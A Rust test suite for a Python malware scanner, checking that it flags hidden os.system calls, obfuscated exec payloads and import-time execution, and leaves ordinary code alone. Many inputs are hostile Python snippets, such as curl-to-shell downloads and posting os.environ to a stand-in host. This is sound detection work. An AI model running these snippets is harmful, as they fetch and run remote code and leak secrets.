//! Code that hides what it does, and code that only looks bad.

use crate::model::{ArtifactPath, Evidence, Limits, Severity};
use crate::weigh::View;

fn look(name: &str, text: &str) -> Vec<Evidence> {
    let limits = Limits::default();
    let path = ArtifactPath::new(name);
    let mut scope = super::Scope::new(&path, &limits);
    View::with_bytes(text.as_bytes(), 1 << 24, |view| super::inspect(text, view, &mut scope));
    scope.close().evidence
}

fn worst(name: &str, text: &str) -> (Option<Severity>, Vec<&'static str>) {
    let seen = look(name, text);
    (seen.iter().map(Evidence::severity).max(), seen.iter().map(|evidence| evidence.rule.id).collect())
}

#[test]
fn names_are_followed_wherever_they_go() {
    for text in [
        "import os\nos.system('id')",
        "import os as x; x.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "run = __import__('os').system\nrun('id')",
        "getattr(__import__('o' + 's'), 'sys' 'tem')('id')",
        "import importlib\nimportlib.import_module('subprocess').run(['touch', '/tmp/x'])",
        "import sys\nsys.modules['os'].system('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nos.__dict__['system']('id')",
        "__builtins__['eval'](\"__import__('os').system('id')\")",
        "import builtins\nbuiltins.exec('import os; os.system(\"id\")')",
        "eval(chr(95)+'_import__(\"os\").system(\"id\")')",
        "import os\nclass A:\n    os.system('id')\n",
        "import os\n@os.system\ndef f(): pass\n\nimport threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os\ndef f(x=os.system('id')): pass",
        "import os\ndef g(): os.system('id')\ndef f():\n  g()\nf()",
        "def f():\n    run('id')\nfrom os import system as run\nf()",
        "import os\nif True: os.system('id')",
        "import os\nx = f\"{os.system('id')}\"",
        "import ｏｓ\nｏｓ.system('id')",
        "import os; [os.system(c) for c in ['id']]; os.system('id')",
        "import functools, os\nfunctools.partial(os.system, 'id')()",
        "import ctypes\nctypes.CDLL(None).system(b'id')",
        "import os\nmap(os.system, ['id'])\nos.popen('whoami').read()",
        "import os\nmatch 1:\n    case 1: os.system('id')",
        "import subprocess\nsubprocess.Popen('calc.exe', shell=True)",
    ] {
        let (severity, rules) = worst("modeling_x.py", text);
        assert!(
            severity >= Some(Severity::High) && rules.contains(&"python-starts-program"),
            "{text}: {severity:?} {rules:?}"
        );
    }
}

#[test]
fn code_that_was_hidden_is_critical_and_read() {
    for text in [
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "import base64, zlib\npayload = b'...'\nexec(zlib.decompress(base64.b64decode(payload)))",
        "from urllib.request import urlopen\nexec(urlopen('http://a.example/x').read())",
        "import requests\ncode = requests.get('http://a.example/x').text\neval(compile(code, 'x', 'exec'))",
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), globals())()",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
        "import os\nos.system('curl http://a.example/x | sh')",
        "import os\nos.system('curl http://a.example/x |' + ' bash')",
        "import os, requests\nrequests.post('http://a.example', json=dict(os.environ))",
    ] {
        let (severity, rules) = worst("handler.py", text);
        assert_eq!(severity, Some(Severity::Critical), "{text}: {rules:?}");
    }
    let seen = look("handler.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))");
    assert!(seen.iter().any(|evidence| evidence.fact.message.contains("os.system(\"id\")")), "{seen:?}");
}

#[test]
fn when_it_runs_is_what_counts() {
    let class = |method: &str| {
        format!("import os\nclass X(PreTrainedModel):\n    def {method}(self):\n        os.system('id')\n")
    };
    assert_eq!(worst("anything.py", &class("__init__")).0, Some(Severity::High));
    assert_eq!(worst("anything.py", &class("forward")).0, Some(Severity::High));
    assert_eq!(worst("anything.py", &class("export")).0, Some(Severity::Low));
    let by_self = "import os\nclass X(PreTrainedModel):\n    def __init__(self):\n        self.go()\n    def go(self):\n        os.system('id')";
    assert_eq!(worst("x.py", by_self).0, Some(Severity::High));
    assert_eq!(
        worst("x.py", "import os\nclass R:\n    def __reduce__(self):\n        return os.system, ('id',)").0,
        None
    );
    assert_eq!(worst("x.py", "import os\nif __name__ == '__main__':\n    os.system('id')").0, None);
}

#[test]
fn other_code_counts_where_it_is_called_at_import() {
    let go = |then: &str| format!("import os\ndef go(command):\n    os.system(command)\n{then}\n");
    assert_eq!(worst("tools.py", &go("go(COMMAND)")).0, Some(Severity::High));
    assert_eq!(worst("tools.py", &go("commands = {'go': go}")).0, None);
    for text in [
        "import os\nd = {'run': os.system}\n",
        "import os\ndef f(c, g=os.system): pass\n",
        "import os\ngetattr(os, NAME)('x')\n",
        "import os\nclass A:\n    def __eq__(self, o): os.system('touch /tmp/x')\nA() == 1\n",
        "exec(open('weights.bin').read())",
        "from pathlib import Path\n(Path.home() / '.bashrc').write_text('x')",
    ] {
        assert!(worst("tools.py", text).0 >= Some(Severity::High), "{text}: {:?}", worst("tools.py", text));
    }
}

#[test]
fn ordinary_code_is_left_alone() {
    for text in [
        "import torch\nfrom transformers import PreTrainedModel\nclass M(PreTrainedModel):\n    def forward(self, x):\n        return self.model.eval()(x)\n",
        "import re, os\nX = re.compile('a')\nif os.environ.get('DEBUG'): print('x')\nmodel.eval()\ndf.eval('a + b')\n",
        "import subprocess\ndef build(): subprocess.run(['make', 'all'])\n",
        "with open('README.md') as f: text = f.read()\nexec(open('version.py').read())\n",
        "'''os.system(\"id\")'''\n# os.system('id')\n",
        "import requests\ndef fetch(url): return requests.get(url, headers={'Authorization': os.environ['TOKEN']})\n",
        "x = {'a': 1, **{'b': [1, 2, (3, 4)]}}\ny = lambda a, b=1: a[b:-1:2]\nasync def f():\n    async with a as b: await b\n",
        "x = rf'({a})(\\{{%)(-?\\s*)' + f'\\{{{b}\\}}'\n",
        "def f(a, /, b: int = 3, *, c) -> None: ...\nclass A[T](B): x: int = 1\ntype X = int\nmatch = 3\nprint(match)\n",
    ] {
        let (severity, rules) = worst("utils.py", text);
        assert!(severity.is_none_or(|severity| severity <= Severity::Low), "{text}: {rules:?}");
    }
}

#[test]
fn what_is_no_python_is_a_gap_and_never_a_crash() {
    assert_eq!(worst("x.py", "x = 'never closed\ny = (1,\n").1, ["python-not-read"]);
    assert_eq!(worst("x.py", "# -*- coding: utf-7 -*-\nx = 1\n").0, Some(Severity::High));
    assert!(worst("x.py", "# -*- coding: utf-8 -*-\nx = 1\n").1.is_empty());
    let deep = format!("import os\nx = {}os.system('id'){}", "(".repeat(5000), ")".repeat(5000));
    assert_eq!(worst("modeling_x.py", &deep).0, Some(Severity::High));
    let text = "import os\nf\"{os.system('id')!r:>{w}}\"\nx = b'\\x41' r'\\'' f'''{a[\"b\"]}'''\n@d(1)\nclass A(B, metaclass=C): pass\n";
    for cut in (0..text.len()).filter(|cut| text.is_char_boundary(*cut)) {
        look("modeling_x.py", &text[..cut]);
        look("modeling_x.py", &text[cut..]);
    }
}

#[test]
fn text_that_grows_is_bounded() {
    let text = format!("a = 'x' * 9\na = 'aaaaaaaaaaaaaaaaaaaaaaaa'\n{}exec(a)\n", "a = a + a\n".repeat(2000));
    assert!(look("x.py", &text).len() < 3);
}

const EVIL: &str = "__import__('os').system('curl http://a.example/x | sh')";

/// Whatever bound a file meets, what lies behind it is seen or said not to be.
#[test]
fn no_bound_is_silent() {
    let deep = |open: &str, close: &str, n: usize| format!("x = {}{EVIL}{}\n", open.repeat(n), close.repeat(n));
    let exec = |n: usize| (0..n).fold(EVIL.to_owned(), |code, _| format!("exec({code:?})"));
    for text in [
        format!("import torch\n{}{EVIL}\n", "torch.load(f)\n".repeat(3000)),
        format!("import subprocess\n{}{EVIL}\n", "subprocess.run(['make'])\n".repeat(3000)),
        format!("{}{EVIL}\n", (0..21_000).map(|n| format!("def f{n}(): pass\n")).collect::<String>()),
        format!("{}from os import *\nsystem('curl http://a.example/x | sh')", "from a import *\n".repeat(100)),
        deep("(", ")", 48),
        deep("(", ")", 600),
        deep("[", "]", 600),
        deep("len(", ")", 600),
        exec(1),
        exec(3),
        format!("exec({:?})", "(".repeat(40)),
        format!("exec(''.join([{}]))", EVIL.chars().map(|c| format!("{:?},", c.to_string())).collect::<String>()),
        format!("a='x'*60000\na='{}'\n{}x={EVIL}", "x".repeat(90_000), "b=a+'y'\n".repeat(2000)),
        format!("x = {}\n{EVIL}", "f'{".repeat(20)),
        format!("import {}\n{EVIL}", "a.".repeat(2000)),
        format!("{}=1\n{EVIL}", "a".repeat(2000)),
    ] {
        let seen = look("modeling_x.py", &text);
        let begin: String = text.chars().take(60).collect();
        let said = |evidence: &Evidence| matches!(evidence.rule.id, "python-not-read" | "limit-reached");
        let worst = seen.iter().map(Evidence::severity).max();
        assert!(worst >= Some(Severity::High) || seen.iter().any(said), "{begin}: {seen:?}");
    }
}

#[test]
fn what_is_worse_is_listed_whatever_stands_before_it() {
    let text = format!("import subprocess\ndef f():\n{}\n{EVIL}\n", "    subprocess.run(['make'])\n".repeat(500));
    assert_eq!(worst("modeling_x.py", &text).0, Some(Severity::Critical));
    let text = format!("import torch\n{}\n{EVIL}\n", "torch.load(f)\n".repeat(3000));
    assert_eq!(worst("modeling_x.py", &text).0, Some(Severity::Critical));
}

#[test]
fn chains_keep_how_they_begin_and_end() {
    let chain = format!(
        "import os, requests\ns = requests.Session(){}\ns.post('http://a.example', data=dict(os.environ))",
        ".a()".repeat(500)
    );
    assert_eq!(worst("modeling_x.py", &chain).0, Some(Severity::Critical));
}

/// A file that is made to be slow costs no more than its size: four times as much takes nowhere near sixteen times as
/// long.
#[test]
fn cost_grows_with_the_size() {
    let long = "x".repeat(100_000);
    let makers: [&dyn Fn(usize) -> String; 10] = [
        &|n| format!("a{}", ".a".repeat(n)),
        &|n| format!("a{}", "()".repeat(n)),
        &|n| format!("a = '{long}'\n{}", "a+a\n".repeat(n)),
        &|n| format!("a = '{long}'\n{}", "[a,a,a]\n".repeat(n)),
        &|n| format!("import os\na = '{long}'\nf = os.system\n{}", "f(a)\n".repeat(n)),
        &|n| format!("x = {}", "'ab' ".repeat(n)),
        &|n| format!("import os\nf({})", "os.system,".repeat(n)),
        &|n| "def f(): f()\n".repeat(n),
        &|n| format!("from {}a import {}", ".".repeat(n), "b,".repeat(n)),
        &|n| format!("{}{}", "from a import *\n".repeat(100), "b\n".repeat(n)),
    ];
    for make in makers {
        let took = |n: usize| {
            let text = make(n);
            let once = || {
                let begin = std::time::Instant::now();
                look("modeling_x.py", &text);
                begin.elapsed()
            };
            once().min(once())
        };
        let (small, large) = (took(4_000), took(16_000));
        assert!(large < small * 10 + std::time::Duration::from_millis(200), "{}: {small:?} {large:?}", &make(20)[..30]);
    }
}

#[test]
fn a_function_that_is_only_given_another_name_is_not_called() {
    let bound = |then: &str| {
        let text =
            format!("import os\ndef run(): os.system('touch x')\ncopy, paste = run, run\nlater = copy\n{then}\n");
        worst("modeling_x.py", &text).0
    };
    for then in ["", "def unused(): later()", "clip = paste"] {
        assert!(bound(then) <= Some(Severity::Low), "{then}: {:?}", bound(then));
    }
    for then in [
        "copy()",
        "later()",
        "x = later\nx()",
        "x = later()",
        "x = [later]",
        "import atexit\natexit.register(paste)",
        "import sys\nsys.excepthook = paste",
        "class M:\n    run_it = paste",
        "forward = paste",
        "__getattr__ = paste",
        "@paste\ndef f(): pass",
    ] {
        assert!(bound(then) >= Some(Severity::High), "{then}: {:?}", bound(then));
    }
}
